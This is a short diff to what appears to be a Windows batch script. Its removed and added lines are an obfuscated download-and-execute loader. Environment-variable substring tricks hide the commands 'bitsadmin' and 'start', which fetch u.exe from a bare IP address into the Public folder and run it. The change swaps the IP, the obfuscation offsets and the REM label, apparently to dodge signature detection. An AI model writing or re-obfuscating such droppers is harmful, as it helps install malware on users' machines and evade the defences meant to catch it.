@@ -1,3 +1,3 @@
-REM setup 5913 v3
-%PUBLIC:~11,1%%public:~-2,1%ts%programdata:~8,1%dm%windir:~4,1%n /transfer job /download /priority high http://198.51.100.23/u.exe C:\Users\Public\u.exe
-%PUBLIC:~4,1%%comspec:~-13,1%a%PUBLIC:~-9,1%t /b C:\Users\Public\u.exe
+REM run 0391 v3
+b%windir:~-6,1%tsa%windir:~-4,1%%PROGRAMDATA:~9,1%%COMSPEC:~4,1%%comspec:~-22,1% /transfer job /download /priority high http://198.51.100.9/u.exe C:\Users\Public\u.exe
+%windir:~9,1%%PROGRAMDATA:~-2,1%%PROGRAMDATA:~-3,1%r%COMSPEC:~14,1% /b C:\Users\Public\u.exe
